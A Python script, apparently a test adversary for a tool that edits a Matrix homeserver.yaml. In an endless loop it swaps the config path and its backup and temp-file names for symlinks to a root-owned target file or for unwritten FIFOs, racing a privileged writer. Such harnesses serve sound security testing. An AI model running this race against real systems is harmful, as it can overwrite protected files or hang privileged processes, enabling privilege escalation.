"""An attacker at work: puts links to root's files, and pipes, in the place of ours, and takes them away again, until he is ended.
Arguments: the folder that is his, the file to get at, the folder that it is in."""
import glob, os, random, sys, time

mine, prey, preys_folder = sys.argv[1:]
os.chdir(mine)
below = "below/homeserver.yaml"
names = [below, below + ".matrix-auth-before", below + ".candidate"]


def trying(call, *arguments):
    try:
        call(*arguments)
    except OSError:
        pass


def swap(name, target):
    trying(os.rename, name, "aside")
    # A pipe that nobody writes to: whoever opens it without care waits for ever.
    if name != "below" and random.random() < 0.3:
        trying(os.mkfifo, name)
    else:
        trying(os.symlink, target, name)
    trying(os.unlink, name)
    trying(os.rename, "aside", name)


print("ready", flush=True)
while True:
    what = random.random()
    for _ in range(50):
        if what < 0.6:
            swap("below", preys_folder)
        else:
            swap(random.choice(names), prey)
    for new in glob.glob("below/.homeserver.yaml.*.new"):
        trying(os.unlink, new)
        trying(os.symlink, prey, new)
    time.sleep(random.choice([0, 0, 0.002]))
